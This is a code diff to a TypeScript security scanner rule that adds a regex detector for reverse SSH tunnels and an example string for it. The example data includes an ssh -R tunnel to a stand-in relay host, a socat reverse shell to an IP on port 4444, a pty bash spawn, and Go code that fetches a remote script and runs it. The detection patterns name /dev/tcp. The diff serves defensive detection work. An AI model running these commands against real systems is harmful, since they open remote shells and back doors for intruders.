@@ -242,6 +242,16 @@ export const s001RemoteCodeExecution: ScanRule = {
       accept: (m, c) => !negatedBefore(c.text, m.index),
     },
     {
+      // `ssh -N -R 0:localhost:22 relay@host`: this machine's SSH port opened on someone else's server. A step that asks
+      // is a pairing session; kept running by a scheduler or a unit, it is a door.
+      id: 'reverse-ssh-tunnel',
+      keywords: ['ssh', 'autossh'],
+      re: /\b(?:auto)?ssh\b[^;&|\n]{0,200}?\s-[a-zA-Z]{0,6}R\s{0,4}["']?(?:[\w.*]{0,60}:)?\d{1,5}:(?:localhost|127\.0\.0\.1|\[::1\]):22\b/,
+      capabilities: ['reverse-shell'],
+      level: 'MEDIUM',
+      why: "Opens this machine's SSH port on a remote server (a reverse tunnel): whoever controls that server can log in here.",
+    },
+    {
       id: 'reverse-shell-dev-tcp',
       keywords: ['/dev/tcp/', '/dev/udp/'],
       re: /\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/i,
@@ -349,6 +359,7 @@ export const s001RemoteCodeExecution: ScanRule = {
       // Each exercises a detector no other example does (test/scan/rule-examples.test.ts: every detector fires somewhere).
       'socat TCP:198.51.100.4:4444 EXEC:/bin/bash,pty,stderr,setsid',
       { path: 'scripts/tty.py', text: 'import pty\npty.spawn("/bin/bash")\n' },
+      'ssh -N -R 0:localhost:22 relay@tunnel.pairing-hub.example',
       {
         path: 'tools/plugins.go',
         text: 'c := &http.Client{Timeout: 5 * time.Second}\nresp, _ := c.Get(index)\nscript, _ := io.ReadAll(resp.Body)\nexec.Command("sh", "-c", string(script)).Run()\n',
